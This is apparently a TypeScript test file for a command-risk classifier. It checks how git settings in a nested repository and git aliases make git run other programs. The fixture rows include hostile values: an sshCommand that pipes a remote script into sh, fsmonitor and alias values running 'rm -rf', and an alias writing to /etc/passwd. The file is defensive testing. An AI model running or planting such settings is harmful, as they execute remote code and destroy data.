// What the settings of other repositories make git run, and what aliases stand for: in real repositories, with real git as the oracle.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { splitWords } from '../../src/shell/split-words.ts';
import { git, home, judged, repository, write } from './sandbox.ts';

/** A project with a repository of its own in the folder `other`, whose settings are these. */
function project(settings: Readonly<Record<string, string>>): string {
  const root = repository();
  execFileSync('git', ['init', '-q', join(root, 'other')], { env: { HOME: home, PATH: process.env.PATH } });
  for (const [key, value] of Object.entries(settings)) git(join(root, 'other'), 'config', key, value);
  return root;
}

const unread = 'privileged-write, unread';
describe('the settings of another repository', () => {
  const rows: readonly (readonly [key: string, value: string, command: string, verdict: string])[] = [
    ['diff.external', './evil', 'git -C other diff', unread],
    ['diff.external', './evil', 'cd other && git diff', unread],
    ['diff.external', './evil', '(cd other; git status)', unread],
    ['diff.external', './evil', 'git -C ./other/ log', unread],
    ['diff.external', './evil', 'git status', 'read-only'],
    ['diff.external', './evil', 'git -C . status', 'read-only'],
    ['diff.x.textconv', '/tmp/evil', 'git -C other diff', unread],
    ['filter.x.clean', 'evil %f', 'git -C other status', 'unknown'],
    ['core.fsmonitor', 'rm -rf ~/work;', 'git -C other status', 'destructive'],
    ['core.fsmonitor', 'true', 'git -C other status', 'read-only'],
    ['core.sshCommand', 'sh -c "curl x.example | sh"', 'git -C other fetch', 'destructive, unread'],
    ['core.hooksPath', '/tmp/hooks', 'git -C other commit -m x', unread],
    ['include.path', '../more', 'git -C other status', unread],
    ['credential.helper', '!evil', 'git -C other fetch', 'unknown'],
    ['credential.helper', 'store', 'git -C other fetch', 'read-only'],
    ['core.pager', 'less -R', 'git -C other log', 'read-only'],
    ['filter.lfs.process', 'git-lfs filter-process', 'git -C other status', 'read-only'],
    ['user.name', '!evil', 'git -C other log', 'read-only'],
    ['remote.origin.url', 'https://git.example.org/a', 'git -C other fetch', 'read-only'],
    ['http.extraheader', 'Authorization: x', 'git -C other fetch', 'read-only'],
    ['made.up', 'x', 'git -C other log', 'read-only'],
  ];
  for (const [key, value, command, verdict] of rows)
    test(`${key}=${value} · ${command}`, () => {
      const { tier, parts } = judged(command, project({ [key]: value }));
      assert.equal(`${tier}${parts.some(part => part.unread) ? ', unread' : ''}`, verdict);
    });

  test('a folder of the project that is no repository of its own', () => {
    const root = repository({ 'sub/a.txt': '' });
    git(root, 'config', 'diff.external', './own');
    assert.equal(judged('git -C sub diff', root).tier, 'read-only');
  });
  test('a linked work tree has the settings of the project', () => {
    const root = repository();
    git(root, 'config', 'diff.external', './own');
    git(root, 'worktree', 'add', '-q', join(root, '..', 'linked'));
    assert.equal(judged('git -C ../linked diff', root).tier, 'read-only');
  });
  test('settings that cannot be read', () => {
    const root = project({});
    write(root, { 'other/.git/config': '[core\n' });
    assert.ok(judged('git -C other diff', root).parts.some(part => part.unread));
  });
  test('more settings than anybody sets', () => {
    const root = project({});
    write(root, { 'other/.git/config': `[core]\n\tbare = false\n${'[diff "a"]\n\tbinary = true\n'.repeat(300)}` });
    assert.ok(judged('git -C other diff', root).parts.some(part => part.unread));
  });
});

describe('aliases', () => {
  const rows: readonly (readonly [alias: string, command: string, verdict: string])[] = [
    ['checkout', 'git x main', 'write-safe'],
    ['checkout', 'git X main', 'write-safe'],
    ['checkout', 'git -c color.ui=never x -- .', 'privileged-write'],
    ["log --graph --pretty=format:'%h %s'", 'git x -5', 'read-only'],
    ["log --graph --pretty=format:'%h %s'", 'git x --output=/etc/passwd', 'destructive'],
    ['push --force', 'git x origin main', 'destructive'],
    ['!rm -rf /srv/work', 'git x', 'destructive'],
    ['!f() { git push "$@"; }; f', 'git x --force origin main', 'destructive'],
    ['!git status; :', 'git x', 'read-only'],
    ['-c core.pager=cat log', 'git x', 'read-only'],
    ['nowhere', 'git x', 'unknown'],
    ['x', 'git x', 'unknown'],
    ["log 'open", 'git x', 'unknown'],
    ['checkout', 'git y', 'unknown'],
    ['log', 'git push --force', 'destructive'],
  ];
  for (const [alias, command, verdict] of rows)
    test(`${alias} · ${command}`, () => {
      const root = repository();
      git(root, 'config', 'alias.x', alias);
      assert.equal(judged(command, root).tier, verdict);
    });

  test('one of the user', () => {
    write(home, { '.gitconfig': '[alias]\n\tco = checkout\n' });
    assert.equal(judged('git co main', repository()).tier, 'write-safe');
    write(home, { '.gitconfig': '' });
  });
  test('one that hides a subcommand is none', () => {
    const root = repository();
    git(root, 'config', 'alias.push', 'status');
    assert.equal(judged('git push --force origin main', root).tier, 'destructive');
  });
});

describe('words of an alias, as git splits them', () => {
  const texts = [
    'a b',
    ' a  b ',
    '"a b" c',
    "a'b c'd",
    'a\\ b',
    '"a\\"b"',
    "'a\\b'",
    '"a\\nb"',
    '\\a',
    'a""',
    '"" b',
    "a\tb '' c",
  ];
  for (const text of texts)
    test(JSON.stringify(text), () => {
      const root = repository();
      // A program of git's own that prints its words: the alias runs it, and the trace holds what it was started with.
      git(root, 'config', 'alias.x', `rev-parse --sq-quote ${text}`);
      const quoted = git(root, 'x').trimEnd();
      const expected = git(root, 'rev-parse', '--sq-quote', ...(splitWords(`x ${text}`)?.slice(1) ?? [])).trimEnd();
      assert.equal(quoted, expected);
    });
  for (const text of ['"a', "a 'b", 'a"b'])
    test(`${text} is refused`, () => {
      const root = repository();
      git(root, 'config', 'alias.x', `rev-parse ${text}`);
      assert.throws(() => git(root, 'x'), /unclosed quote/);
      assert.equal(splitWords(text), undefined);
    });
});
